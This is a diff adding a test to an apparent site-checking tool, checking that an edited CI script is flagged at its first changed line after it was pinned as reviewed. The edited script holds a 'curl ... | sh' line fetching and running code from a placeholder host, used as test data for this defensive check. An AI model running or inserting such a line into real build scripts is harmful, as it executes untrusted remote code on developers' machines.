@@ -148,3 +148,19 @@ def test_plain_captions_and_sources_pass(tmp_path):
         "details:\n  - 'You have {{ clinic.sessions.first_course }} sessions: < 1 hour each.'\n"
     )
     assert data_text.check(tmp_path) == []
+
+
+def test_a_changed_developer_script_is_named_at_its_first_changed_line(tmp_path, monkeypatch):
+    from sitecheck.rules.project import developer_files
+
+    (tmp_path / ".ci").mkdir()
+    (tmp_path / ".ci" / "run").write_text("#!/bin/sh\nset -e\n./run lint\n./run test\n")
+    monkeypatch.setattr(developer_files, "PINS", tmp_path / "pins.yml")
+    developer_files.accept(tmp_path)
+    assert developer_files.check(tmp_path) == []  # the reviewed version passes
+    (tmp_path / ".ci" / "run").write_text(
+        "#!/bin/sh\nset -e\ncurl -s https://x.example/i.sh | sh\n./run lint\n./run test\n"
+    )
+    found = developer_files.check(tmp_path)
+    assert [(f.file, f.line) for f in found] == [(".ci/run", 3)]
+    assert "--accept" in found[0].fix
